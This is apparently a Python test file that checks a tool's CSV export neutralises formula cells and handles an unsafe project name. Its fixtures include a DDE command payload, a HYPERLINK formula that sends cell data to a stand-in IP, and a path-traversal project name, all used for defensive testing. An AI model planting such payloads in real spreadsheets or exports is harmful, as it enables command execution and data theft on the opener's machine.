"""Browse's CSV download: every matching example, formula cells neutralised, a safe file name.

The tables' own "Download as CSV" is off (`client.disableDataExport`); this replaces it.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from curation.formats import read_examples
from curation.store import ExampleFilter, Store
from tests.legacy import legacy_project
from ui.downloads import EXAMPLE_COLUMNS, examples_csv

PAGE = "pages/browse_page.py"
HYPERLINK = '=HYPERLINK("http://203.0.113.7/?d="&A1,"open")'


def _project(store: Store, tmp_path: Path, name: str = "p") -> None:
    rows = [
        {"id": "=cmd|' /C calc'!A0", "instruction": HYPERLINK, "output": "+1", "label": "-x"},
        {"id": "plain", "instruction": "What is 2+2?", "output": "4", "label": "ok"},
    ] + [{"id": f"n{i}", "instruction": f"q {i}", "output": "a", "label": "ok"} for i in range(60)]
    path = tmp_path / "data.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    legacy_project(store, name)
    store.add_import(name, read_examples(path), "ada")


def test_examples_csv_has_every_match_with_formulas_neutralised(
    store: Store, tmp_path: Path
) -> None:
    _project(store, tmp_path)
    rows = list(csv.reader(io.StringIO(examples_csv(store, "p").decode("utf-8-sig"))))
    assert rows[0] == EXAMPLE_COLUMNS
    assert len(rows) == 1 + 62  # every example, not one page of the table
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["id"] == "'=cmd|' /C calc'!A0"
    assert first["prompt"] == "'" + HYPERLINK
    assert first["answer"] == "'+1"
    assert json.loads(first["metadata"]) == {"id": "=cmd|' /C calc'!A0", "label": "-x"}
    plain = dict(zip(rows[0], rows[2], strict=True))
    assert (plain["id"], plain["prompt"], plain["answer"]) == ("plain", "What is 2+2?", "4")

    only = examples_csv(store, "p", ExampleFilter(search="2+2"))
    assert [r[0] for r in csv.reader(io.StringIO(only.decode("utf-8-sig")))] == ["id", "plain"]


def test_browse_offers_the_safe_download(open_page, store: Store, tmp_path: Path) -> None:
    _project(store, tmp_path, name="../team/q1 data")
    at = open_page(PAGE, project="../team/q1 data")
    assert not at.exception, at.exception
    button = at.get("download_button")[0]
    assert button.proto.label == "Download the matching examples as CSV"
    assert button.proto.deferred_file_id  # built only when clicked
